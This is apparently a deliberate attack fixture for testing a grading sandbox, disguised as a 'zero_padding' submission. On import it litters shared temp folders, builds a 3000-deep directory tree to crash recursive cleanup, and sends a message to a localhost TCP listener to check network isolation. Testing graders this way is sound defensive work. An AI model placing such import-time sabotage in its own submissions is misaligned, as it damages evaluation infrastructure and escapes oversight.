"""Attack: at import, leaves 100 files in each of /tmp, /var/tmp, /dev/shm and /run/lock, a tree of
folders 3000 deep in /tmp and in its workspace, and sends a message to a TCP listener on 127.0.0.1 (its
port handed in by the test), over IPv4 and IPv6. Nothing here is solved.

A grader without private temporary folders and a network of the child's own leaves the files on the
machine and lets the message through; one that removes folders recursively in Python dies of the deep
tree (RecursionError), with its batch.
"""
import os
import socket

MARKER = "@@MARKER@@"
PORT = int("@@LISTENER_PORT@@")


def _litter():
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        for n in range(100):
            try:
                with open(os.path.join(folder, f"{MARKER}-{n}"), "w") as f:
                    f.write("litter")
            except OSError:
                break
    for top in ("/tmp", os.getcwd()):
        try:
            fd = os.open(top, os.O_RDONLY)
            for depth in range(3000):
                os.mkdir(f"{MARKER}-deep" if depth == 0 else "d", dir_fd=fd)
                fd = os.open(f"{MARKER}-deep" if depth == 0 else "d", os.O_RDONLY, dir_fd=fd)
        except OSError:
            pass


def _call_home():
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect((host, PORT))
                s.sendall(f"{MARKER} got out".encode())
        except OSError:
            pass


_litter()
_call_home()


def zero_padding(X, pad):
    raise NotImplementedError("attack_litter_network solves nothing")
